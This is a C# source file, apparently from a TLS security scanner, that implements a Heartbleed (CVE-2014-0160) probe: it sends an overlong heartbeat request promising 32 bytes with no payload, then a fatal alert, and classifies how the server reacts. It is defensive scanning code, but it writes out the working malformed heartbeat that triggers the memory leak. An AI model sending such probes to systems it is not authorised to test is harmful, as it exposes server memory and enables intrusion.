using Sallyport.Observations;
using Sallyport.Wire.Tls;

namespace Sallyport.Probes.Tls.Attacks;

/// <summary>Sends a heartbeat that promises more than it carries (CVE-2014-0160). A fatal alert behind it makes a sound server end the connection, so nobody waits.</summary>
internal sealed class HeartbleedProbe(AttackLine line, AttackHello hello)
{
    /// <summary>Why nothing can be provoked, where a ServerHello does not answer the offer.</summary>
    internal const string NotTaken = "heartbeats are not taken";

    private const byte Request = 1;
    private const byte Promised = 32;
    private const byte Fatal = (byte)AlertLevel.Fatal;

    internal async Task<AttackExchange[]> AskAsync()
    {
        var first = await AskAsync(round: 0);
        return first.Outcome is AttackOutcome.Reacted reacted && !IsSettled(reacted) ? [first, await AskAsync(round: 1)] : [first];
    }

    private static bool IsSettled(AttackOutcome.Reacted reacted) =>
        reacted.End == NetworkFault.Closed || reacted.Records is [{ Alert: not null }, ..];

    private Task<AttackExchange> AskAsync(int round) => line.PlainAsync(
        new AttackQuestion(AttackPurpose.Heartbleed, AttackForm.OverlongHeartbeat, round), hello with { More = [HelloExtension.Heartbeat()] }, HandshakeType.ServerHello, ProvokeAsync);

    private static async Task<AttackOutcome> ProvokeAsync(PlainHandshake handshake, Patience patience)
    {
        if (!handshake.TakesHeartbeats) return new AttackOutcome.NotPossible(NotTaken);
        if (await handshake.OpenAsync([], HandshakeType.ServerHelloDone) is { } problem) return new AttackOutcome.NotReached(problem);

        var version = handshake.Version!.Value;
        byte[] provocation =
        [
            .. ClientHelloWriter.ToRecords([Request, 0, Promised], ContentType.Heartbeat, version),
            .. ClientHelloWriter.ToRecords([Fatal, AlertDescription.InternalError.Id], ContentType.Alert, version),
        ];
        return await handshake.ProvokeAsync(provocation, patience.ForAnswer, record => record.Type == ContentType.Heartbeat || record.Fatal);
    }
}
